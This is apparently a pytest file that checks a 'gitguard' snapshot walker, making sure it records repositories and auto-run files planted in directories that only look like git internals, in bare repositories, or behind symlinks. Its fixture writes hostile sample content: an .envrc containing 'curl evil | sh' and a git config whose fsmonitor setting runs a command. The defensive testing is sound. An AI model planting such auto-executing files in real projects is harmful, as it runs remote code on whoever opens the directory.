"""A directory made to look like a git directory (``HEAD`` and ``refs``
beside a project's own ``app/objects/``) hides nothing in its ``objects``,
``refs``, ``logs`` or ``lfs`` from an end's walk (daemon/gitguard/runnables.py):
only below a ``.git``, inside a git directory, or in one the baseline
recorded is that bulk left unwalked. Each with its twin."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from dispatchd.daemon.gitguard import runnables
from tests.unit.gitrepo import git
from tests.unit.deeptrees import opened_by_walks

PLANTED = ["app/objects/tool/.envrc", "app/objects/tool/.git/config", "app/objects/tool/.vscode"]


def _plant(tool: Path) -> None:
    (tool / ".git" / "hooks").mkdir(parents=True)
    (tool / ".git" / "config").write_text("[core]\n\tfsmonitor = touch /tmp/pwned\n")
    (tool / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (tool / ".envrc").write_text("curl evil | sh\n")
    (tool / ".vscode").mkdir()
    (tool / ".vscode" / "tasks.json").write_text("{}\n")


@pytest.mark.parametrize("fake_head", [False, True])
@pytest.mark.parametrize("bulk", ["objects", "refs", "logs", "lfs"])
def test_a_repository_planted_in_a_new_look_alike_s_bulk_is_moved_aside(
        tmp_path: Path, fake_head: bool, bulk: str) -> None:
    wt = tmp_path / "wt"
    (wt / "app" / bulk).mkdir(parents=True)  # the project's own directory (a game's, an ORM's...)
    (wt / "app" / bulk / "model.py").write_text("x = 1\n")
    before = runnables.take(str(wt))
    if fake_head:  # the session's: app now looks like a git directory
        (wt / "app" / "HEAD").write_text("ref: refs/heads/main\n")
        for name in ("objects", "refs"):
            (wt / "app" / name).mkdir(exist_ok=True)
    _plant(wt / "app" / bulk / "tool")
    end = runnables.take(str(wt), ending=True, before=before)
    assert end.complete and end.entries.get("app") == ("gitdir" if fake_head else None)
    assert sorted(runnables.changes(before, end)) == [p.replace("objects", bulk, 1) for p in PLANTED]


@pytest.mark.process  # git makes the bare repository
def test_a_bare_repository_the_baseline_recorded_keeps_its_bulk_unwalked(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The user's own bare repository (and a new ``.git``): their objects
    are git's, large, and not walked at an end; its config still judged."""
    wt = tmp_path / "wt"
    wt.mkdir()
    git(tmp_path, "init", "-q", "--bare", str(wt / "bare"))
    for i in range(20):
        (wt / "bare" / "objects" / f"{i:02x}").mkdir()
    before = runnables.take(str(wt))
    assert before.entries["bare"] == "gitdir"
    git(tmp_path, "init", "-q", str(wt / "sub"))
    opened = opened_by_walks(monkeypatch)
    end = runnables.take(str(wt), ending=True, before=before)
    assert end.complete and sorted(runnables.changes(before, end)) == ["sub/.git/config"]
    assert not {"objects", "refs", "00", "13"} & set(opened), opened
    assert "bare" in opened and "hooks" in opened  # the twin: the rest of each walked


def test_a_link_into_a_blind_spot_named_like_another_part_s_root_is_recorded(tmp_path: Path) -> None:
    """Another part's root (``parts/sub``) is its own walk's; a link named
    ``sub`` elsewhere (``lib/sub -> ../.git/objects/hidden``, a repository
    hidden where the walk does not look) was passed over by its name alone,
    never moved aside. The twin: the same link under any other name."""
    wt = tmp_path / "wt"
    (wt / "parts" / "sub").mkdir(parents=True)
    (wt / "lib").mkdir()
    excluded = [str(wt / "parts" / "sub")]
    before = runnables.take(str(wt), excluded=excluded)
    os.symlink("../.git/objects/hidden", wt / "lib" / "sub")
    os.symlink("../.git/objects/hidden", wt / "lib" / "other")
    end = runnables.take(str(wt), excluded=excluded, ending=True, before=before)
    assert end.complete and sorted(runnables.changes(before, end)) == ["lib/other", "lib/sub"]
